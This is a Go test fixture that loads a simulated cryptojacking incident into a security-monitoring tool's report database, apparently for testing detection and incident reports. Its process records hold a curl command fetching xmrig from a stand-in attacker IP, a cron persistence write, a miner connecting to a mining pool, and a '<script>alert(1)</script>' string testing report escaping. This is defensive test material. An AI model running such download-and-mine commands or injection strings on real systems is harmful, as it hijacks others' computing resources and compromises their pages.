package reports

import (
	"path/filepath"
	"testing"
	"time"
)

// t0 is the fixture's capture start.
var t0 = time.Date(2026, 11, 20, 10, 0, 0, 123456789, time.UTC)

func at(sec int) time.Time { return t0.Add(time.Duration(sec) * time.Second) }

func atp(sec int) *time.Time { t := at(sec); return &t }

// loadMiner adds a small cryptojacking story to s for capture id on host: bash (pid 100) under
// systemd fetches /tmp/.x/xmrig with curl (pid 101), writes a cron entry, runs the miner
// (pid 102), which resolves pool.supportxmr.com and connects to it on port 3333.
// minerSHA is the SHA-256 the fixture's xmrig has (the one docs/SCHEMA.md's example asks for).
const minerSHA = "4add4bb89d8ca0e3b1bd861130ddd7ae0fd9617a8055de0a38c8d2ca1ac95723"

func loadMiner(t testing.TB, s *Store, id, host string, day time.Duration) {
	t.Helper()
	d := func(sec int) time.Time { return at(sec).Add(day) }
	dp := func(sec int) *time.Time { x := d(sec); return &x }
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(s.AddCapture(&Capture{ID: id, Host: host, Kernel: "6.8.0", BootID: "b-" + id, Source: "/cap/" + id,
		SakerVersion: "0.1.0", Start: d(0), Stop: d(600), Events: 6, Verified: true, ManifestJSON: `{"version":1}`}))
	procs := []Process{
		{Key: 1, PID: 1, Exe: "/usr/lib/systemd/systemd", Cmdline: "/sbin/init", Args: []string{"/sbin/init"}, User: "root"},
		{Key: 2, ParentKey: 1, PID: 100, PPID: 1, Start: dp(1), Exe: "/usr/bin/bash", Cmdline: "bash -i", Args: []string{"bash", "-i"}, User: "www-data", UID: 33, Ancestry: "systemd"},
		{Key: 3, ParentKey: 2, PID: 101, PPID: 100, Start: dp(2), Exit: dp(4), Exe: "/usr/bin/curl", Cmdline: "curl -o /tmp/.x/xmrig http://203.0.113.9/x", Args: []string{"curl", "-o", "/tmp/.x/xmrig", "http://203.0.113.9/x"}, User: "www-data", UID: 33, Ancestry: "bash<systemd"},
		{Key: 4, ParentKey: 2, PID: 102, PPID: 100, Start: dp(10), Exe: "/tmp/.x/xmrig", Cmdline: "/tmp/.x/xmrig -o pool.supportxmr.com:3333", Args: []string{"/tmp/.x/xmrig", "-o", "pool.supportxmr.com:3333"}, User: "www-data", UID: 33, Ancestry: "bash<systemd",
			ExeSHA256: minerSHA, ExeSize: 8_400_000},
	}
	for i := range procs {
		procs[i].CaptureID = id
		must(s.AddProcess(&procs[i]))
	}
	for n := 1; n <= 6; n++ {
		must(s.AddEvent(&Event{CaptureID: id, Num: uint64(n), Time: d(n), Kind: "openat", PID: 101, TID: 101, ProcessKey: 3, FD: 3, Path: "/tmp/.x/xmrig"}))
	}
	must(s.AddDNS(&DNS{CaptureID: id, Time: d(11), QName: "pool.supportxmr.com", QType: "A", RCode: "NOERROR",
		Answers: []string{"198.51.100.7"}, TTL: 60, Resolver: "127.0.0.53", PID: 102, ProcessKey: 4}))
	must(s.AddConnection(&Connection{CaptureID: id, ID: 1, ProcessKey: 4, PID: 102, Proto: "tcp", LocalIP: "10.0.0.5", LocalPort: 40000,
		RemoteIP: "198.51.100.7", RemotePort: 3333, Names: []string{"pool.supportxmr.com"}, DNSAnswer: "pool.supportxmr.com",
		FirstTime: d(12), LastTime: d(600), BytesSent: 100, BytesRecv: 200}))
	must(s.AddConnection(&Connection{CaptureID: id, ID: 2, ProcessKey: 3, PID: 101, Proto: "tcp", LocalIP: "10.0.0.5", LocalPort: 40001,
		RemoteIP: "203.0.113.9", RemotePort: 80, FirstTime: d(2), LastTime: d(4), BytesSent: 10, BytesRecv: 5000}))
	must(s.AddFile(&File{CaptureID: id, Time: d(3), Action: "create", Path: "/tmp/.x/xmrig", Mode: 0o755, PID: 101, ProcessKey: 3, EventNum: 3}))
	must(s.AddExecutable(&Executable{CaptureID: id, Time: d(10), PID: 102, Path: "/tmp/.x/xmrig", SHA256: minerSHA,
		Size: 8_400_000, Inode: 1234, Mtime: d(3), Ctime: d(3), Kept: true}))
	must(s.AddExecutable(&Executable{CaptureID: id, Time: d(2), PID: 101, Path: "/usr/bin/curl",
		Error: "process gone before its executable could be read"}))
	must(s.AddFile(&File{CaptureID: id, Time: d(5), Action: "write", Path: "/etc/cron.d/x", Mode: 0o644, PID: 100, ProcessKey: 2, EventNum: 5}))
	must(s.AddFile(&File{CaptureID: id, Time: d(6), Action: "write", Path: "/home/u/notes.txt", PID: 100, ProcessKey: 2}))
	must(s.AddFinding(&Finding{CaptureID: id, ID: 1, Rule: "Mining pool connection", Priority: "Critical", Source: "syscall",
		Time: d(12), Output: "xmrig connected to pool.supportxmr.com", OutputFields: map[string]any{"proc.pid": 102},
		Tags: []string{"mitre_impact"}, EventNum: 6, PID: 102, ProcessKey: 4, ConnectionID: 1, RollupID: 1}))
	// The incident the finding makes, as incident.Build tells it.
	must(s.AddRollup(&Rollup{CaptureID: id, ID: 1, Rule: "Mining pool connection", Priority: "Critical", Kind: "connection",
		Subject: "10.0.0.5:40000->198.51.100.7:3333", ProcessKey: 4, PID: 102, ConnectionID: 1, Count: 1, FirstTime: d(12),
		LastTime: d(12), FirstEvent: 6, LastEvent: 6, FirstFindingID: 1, IncidentID: 1, Output: "xmrig connected to pool.supportxmr.com"}))
	must(s.AddIncident(&Incident{CaptureID: id, ID: 1, Priority: "Critical", FirstTime: d(12), LastTime: d(12), Findings: 1,
		Rollups: 1, Steps: 4, Phases: []string{"arrival", "download", "execution", "command and control / mining"},
		EntryKeys: []uint64{2}, ProcessKeys: []uint64{2, 3, 4}, Summary: "incident 1: Critical"}))
	steps := []IncidentStep{
		{Time: d(1), Phase: "arrival", Text: "bash (pid 100) started by systemd: bash -i", PID: 100, ProcessKey: 2},
		{Time: d(2), Phase: "download", Text: "curl (pid 101) fetched from 203.0.113.9:80/tcp: 5000 bytes received", PID: 101, ProcessKey: 3, ConnectionID: 2},
		{Time: d(10), Phase: "execution", Text: "miner xmrig (pid 102) ran /tmp/.x/xmrig <script>alert(1)</script>", PID: 102, ProcessKey: 4},
		{Time: d(12), Phase: "command and control / mining", Text: "Mining pool connection: xmrig (pid 102) to pool.supportxmr.com", PID: 102,
			ProcessKey: 4, ConnectionID: 1, RollupIDs: []uint64{1}},
	}
	for i := range steps {
		steps[i].CaptureID, steps[i].IncidentID, steps[i].Step = id, 1, uint64(i+1)
		must(s.AddIncidentStep(&steps[i]))
	}
	for _, x := range []Indicator{{Type: "domain", Value: "pool.supportxmr.com"}, {Type: "ip", Value: "198.51.100.7"},
		{Type: "path", Value: "/tmp/.x/xmrig"}, {Type: "sha256", Value: minerSHA}} {
		x.CaptureID, x.IncidentID, x.FirstTime, x.LastTime = id, 1, d(10), d(12)
		must(s.AddIndicator(&x))
	}
	must(s.AddRule(&Rule{CaptureID: id, Name: "Mining pool connection", Priority: "Critical", Source: "syscall",
		Condition: "evt.type = connect", Output: "%proc.name connected", Tags: []string{"mitre_impact"}, Enabled: true}))
}

// minerDB writes the fixture database for one capture and returns its path.
func minerDB(t testing.TB) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "miner.duckdb")
	s, err := Create(path, CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	loadMiner(t, s, "c1", "web1", 0)
	if err := s.Commit(); err != nil {
		t.Fatal(err)
	}
	return path
}
